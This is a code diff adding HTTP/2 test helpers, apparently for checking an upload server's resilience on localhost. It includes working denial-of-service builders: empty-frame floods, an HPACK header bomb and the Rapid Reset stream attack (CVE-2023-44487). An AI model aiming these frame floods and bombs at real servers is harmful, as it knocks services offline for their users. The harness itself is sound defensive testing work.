@@ -12,6 +12,7 @@ import h2.config
 import h2.connection
 import h2.events
 import h2.settings
+import hyperframe.frame
 
 
 @dataclass
@@ -182,3 +183,289 @@ class H2Client:
     def get(self, stream_id: int, timeout: float = 10.0) -> Stream:
         self.wait(lambda: self.done(stream_id), timeout, f"end of stream {stream_id}")
         return self.streams[stream_id]
+
+
+PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
+ENHANCE_YOUR_CALM = 0xB
+SETTINGS_TIMEOUT = 0x4
+REFUSED_STREAM = 0x7
+
+
+def connect(port: int, cafile: str | None, tls: bool = True, timeout: float = 10.0) -> socket.socket:
+    """A socket to the server that negotiated h2 by ALPN (or a plain one for h2c)."""
+    raw = socket.create_connection(("127.0.0.1", port), timeout=timeout)
+    if not tls:
+        return raw
+    context = ssl.create_default_context(cafile=cafile)
+    context.set_alpn_protocols(["h2"])
+    sock = context.wrap_socket(raw, server_hostname="localhost")
+    assert sock.selected_alpn_protocol() == "h2", sock.selected_alpn_protocol()
+    return sock
+
+
+class RawH2:
+    """A client that writes frames itself (hyperframe, with its own HPACK encoder), for the attacks the `h2` state
+    machine refuses to produce: floods of empty frames, HPACK bombs. It reads what the server sends back (GOAWAY,
+    RST_STREAM, response HEADERS); every wait is bounded."""
+
+    def __init__(self, port: int, cafile: str | None, tls: bool = True, timeout: float = 10.0):
+        import hpack
+        self.timeout = timeout
+        self.sock = connect(port, cafile, tls, timeout)
+        self.decoder = hpack.Decoder()
+        self.buffer = b""
+        self.goaway: int | None = None
+        self.resets: dict[int, int] = {}
+        self.statuses: dict[int, int] = {}
+        self.server_settings: dict[int, int] = {}
+        self.closed = False
+        self.send_failed = False
+        self.sock.sendall(PREFACE + hyperframe.frame.SettingsFrame(0).serialize())
+
+    def close(self) -> None:
+        try:
+            self.sock.close()
+        except OSError:
+            pass
+
+    def __enter__(self) -> "RawH2":
+        return self
+
+    def __exit__(self, *exc) -> None:
+        self.close()
+
+    def send(self, data: bytes) -> bool:
+        """False once the server closed (or stopped reading and reset). What it sent before is still read: a
+        GOAWAY ahead of the close is in our receive buffer."""
+        if self.closed or self.send_failed:
+            return False
+        try:
+            self.sock.sendall(data)
+            return True
+        except OSError:
+            self.send_failed = True
+            return False
+
+    def read(self, timeout: float = 0.2) -> None:
+        """Reads once (up to `timeout`) and records the frames."""
+        if self.closed:
+            return
+        self.sock.settimeout(timeout)
+        try:
+            data = self.sock.recv(256 * 1024)
+        except (socket.timeout, ssl.SSLWantReadError, TimeoutError):
+            return
+        except OSError:
+            self.closed = True
+            return
+        finally:
+            self.sock.settimeout(self.timeout)
+        if not data:
+            self.closed = True
+            return
+        self.buffer += data
+        while len(self.buffer) >= 9:
+            frame, length = hyperframe.frame.Frame.parse_frame_header(memoryview(self.buffer[:9]))
+            if len(self.buffer) < 9 + length:
+                break
+            frame.parse_body(memoryview(self.buffer[9:9 + length]))
+            self.buffer = self.buffer[9 + length:]
+            self._record(frame)
+
+    def _record(self, frame) -> None:
+        if isinstance(frame, hyperframe.frame.GoAwayFrame):
+            self.goaway = frame.error_code
+        elif isinstance(frame, hyperframe.frame.RstStreamFrame):
+            self.resets[frame.stream_id] = frame.error_code
+        elif isinstance(frame, hyperframe.frame.HeadersFrame):
+            fields = dict(self.decoder.decode(frame.data))
+            if ":status" in fields:
+                self.statuses.setdefault(frame.stream_id, int(fields[":status"]))
+        elif isinstance(frame, hyperframe.frame.SettingsFrame) and "ACK" not in frame.flags:
+            self.server_settings.update(frame.settings)
+            self.send(hyperframe.frame.SettingsFrame(0, flags=["ACK"]).serialize())
+
+    def wait(self, predicate, timeout: float = 10.0) -> bool:
+        deadline = time.monotonic() + timeout
+        while not predicate() and not self.closed and time.monotonic() < deadline:
+            self.read(0.05)
+        return predicate()
+
+    def wait_closed(self, timeout: float = 10.0) -> float:
+        """Reads until the server closed the connection; returns the seconds it took."""
+        started = time.monotonic()
+        deadline = started + timeout
+        while not self.closed and time.monotonic() < deadline:
+            self.read(0.1)
+        assert self.closed, f"the server did not close the connection within {timeout}s"
+        return time.monotonic() - started
+
+
+def request_block(encoder, method: str, path: str, extra: list[tuple[str, str]] | None = None) -> bytes:
+    return encoder.encode([(":method", method), (":path", path), (":scheme", "https"), (":authority", "localhost"),
+                           ("tus-resumable", "1.0.0")] + (extra or []))
+
+
+class LatencyProbe:
+    """Another client's `HEAD`s on its own HTTP/2 connection while an attack runs, one every `interval` seconds:
+    the latencies (a request that takes longer than `timeout` counts as `timeout`) and their p99."""
+
+    def __init__(self, port: int, cafile: str, path: str, interval: float = 0.01, timeout: float = 5.0):
+        import threading
+        self.port, self.cafile, self.path, self.interval, self.timeout = port, cafile, path, interval, timeout
+        self.latencies: list[float] = []
+        self.timeouts = 0
+        self.errors: list[str] = []
+        self._stop = threading.Event()
+        self._thread = threading.Thread(target=self._run, daemon=True)
+
+    def __enter__(self) -> "LatencyProbe":
+        self._thread.start()
+        return self
+
+    def __exit__(self, *exc) -> None:
+        self._stop.set()
+        self._thread.join(timeout=self.timeout + 5)
+
+    def _run(self) -> None:
+        client = None
+        while not self._stop.is_set():
+            try:
+                if client is None:
+                    client = H2Client(self.port, self.cafile, timeout=self.timeout)
+                started = time.monotonic()
+                stream = client.get(client.request("HEAD", self.path, {"tus-resumable": "1.0.0"}), self.timeout)
+                elapsed = time.monotonic() - started
+                if stream.status not in (200, 404):
+                    self.errors.append(f"status {stream.status}")
+                self.latencies.append(elapsed)
+            except TimeoutError:
+                self.timeouts += 1
+                self.latencies.append(self.timeout)
+                client = None
+            except (OSError, ConnectionError) as error:
+                self.errors.append(repr(error))
+                client = None
+            time.sleep(self.interval)
+        if client is not None:
+            client.close()
+
+    def percentile(self, fraction: float) -> float:
+        ordered = sorted(self.latencies)
+        assert ordered, "the probe completed no request"
+        return ordered[min(len(ordered) - 1, int(fraction * len(ordered)))]
+
+    @property
+    def p99(self) -> float:
+        return self.percentile(0.99)
+
+
+def cpu_seconds(pid: int) -> float:
+    """User + system CPU time of a process so far (/proc/PID/stat, clock ticks)."""
+    import os
+    fields = open(f"/proc/{pid}/stat").read().rsplit(")", 1)[1].split()
+    return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")
+
+
+# Frame floods that carry no progress (CVE-2019-9518 and kin). Each builds `count` frames for a connection whose
+# stream `stream_id` is open (an upload waiting for its body).
+def flood_frames(kind: str, stream_id: int, count: int, first_new_stream: int = 101) -> bytes:
+    frames = hyperframe.frame
+    if kind == "empty-data":
+        one = frames.DataFrame(stream_id).serialize()
+    elif kind == "priority":
+        one = frames.PriorityFrame(stream_id, depends_on=0, stream_weight=15).serialize()
+    elif kind == "window-update":
+        one = frames.WindowUpdateFrame(0, window_increment=1).serialize()
+    elif kind == "ping":
+        one = frames.PingFrame(0, opaque_data=b"flooding").serialize()
+    elif kind == "settings":
+        one = frames.SettingsFrame(0).serialize()
+    elif kind == "rst-stream":
+        # Resets of a stream that is already closed: nghttp2 ignores them, each still costs a frame's work.
+        one = frames.RstStreamFrame(stream_id, error_code=0).serialize()
+    elif kind == "empty-headers":
+        # Header blocks without a single field, each on a new stream (every one is a malformed request).
+        return b"".join(frames.HeadersFrame(first_new_stream + 2 * i, data=b"", flags=["END_HEADERS"]).serialize()
+                        for i in range(count))
+    elif kind == "empty-continuation":
+        head = frames.HeadersFrame(first_new_stream, data=b"").serialize()
+        return head + frames.ContinuationFrame(first_new_stream, data=b"").serialize() * count
+    else:
+        raise ValueError(kind)
+    return one * count
+
+
+def bomb_block(encoder: hpack.Encoder, path: str, refs: int = 10_000, entry_bytes: int = 4000) -> bytes:
+    """A ~10 KB header block that decodes to ~39 MiB: one 4 KB field added to the HPACK dynamic table (sent
+    literally only in the connection's first block), then `refs` one-byte references to it (index 62: the newest
+    dynamic entry)."""
+    head = request_block(encoder, "HEAD", path, [("x-bomb", "a" * entry_bytes)])
+    return head + bytes([0x80 | 62]) * refs
+
+
+def hpack_bomb_connection(port: int, cafile: str, path: str, blocks: int) -> tuple[RawH2, int]:
+    """Sends `blocks` bomb blocks, one stream each, waiting for the server's answer to each; returns the client
+    and how many blocks went out before the server closed."""
+    import hpack
+    client = RawH2(port, cafile)
+    encoder = hpack.Encoder()
+    sent = 0
+    for index in range(blocks):
+        stream_id = 1 + 2 * index
+        frame = hyperframe.frame.HeadersFrame(stream_id, data=bomb_block(encoder, path),
+                                              flags=["END_HEADERS", "END_STREAM"])
+        if not client.send(frame.serialize()):
+            break
+        sent += 1
+        client.wait(lambda: stream_id in client.resets or stream_id in client.statuses or client.goaway is not None,
+                    timeout=5)
+        if client.goaway is not None:
+            break
+    return client, sent
+
+
+def tus_patch_fields(path: str) -> tuple[str, str, list[tuple[str, str]]]:
+    """A tus PATCH of a 1000-byte upload whose body never comes: the stream a flood rides on."""
+    return "PATCH", path, [("upload-offset", "0"), ("content-length", "1000"),
+                           ("content-type", "application/offset+octet-stream")]
+
+
+def flood_connection(port: int, cafile: str, upload: tuple[str, str, list[tuple[str, str]]], kind: str,
+                     seconds: float) -> tuple[RawH2, int]:
+    """Opens an upload stream (`upload`: method, path, fields; its body never comes), then floods frames of `kind`
+    until the server closes or `seconds` pass. Returns the client and the frames sent (written to the socket,
+    not all read by the server)."""
+    import hpack
+    client = RawH2(port, cafile)
+    encoder = hpack.Encoder()
+    method, path, fields = upload
+    block = request_block(encoder, method, path, fields)
+    client.send(hyperframe.frame.HeadersFrame(1, data=block, flags=["END_HEADERS"]).serialize())
+    sent = 0
+    chunk = 2000
+    deadline = time.monotonic() + seconds
+    while time.monotonic() < deadline and not client.closed and not client.send_failed and client.goaway is None:
+        if not client.send(flood_frames(kind, 1, chunk, first_new_stream=3 + 2 * sent)):
+            break
+        sent += chunk
+        client.read(0)
+    client.wait(lambda: client.goaway is not None, timeout=5)
+    return client, sent
+
+
+def rapid_reset_connection(port: int, cafile: str, path: str, streams: int = 400) -> RawH2:
+    """CVE-2023-44487: `streams` HEADERS each followed at once by RST_STREAM CANCEL, in one write; then waits
+    (bounded) for the server's GOAWAY."""
+    import hpack
+    client = RawH2(port, cafile)
+    encoder = hpack.Encoder()
+    frames = []
+    for index in range(streams):
+        stream_id = 1 + 2 * index
+        frames.append(hyperframe.frame.HeadersFrame(
+            stream_id, data=request_block(encoder, "HEAD", path), flags=["END_HEADERS"]).serialize())
+        frames.append(hyperframe.frame.RstStreamFrame(stream_id, error_code=8).serialize())
+    client.send(b"".join(frames))
+    client.wait(lambda: client.goaway is not None, timeout=5)
+    return client
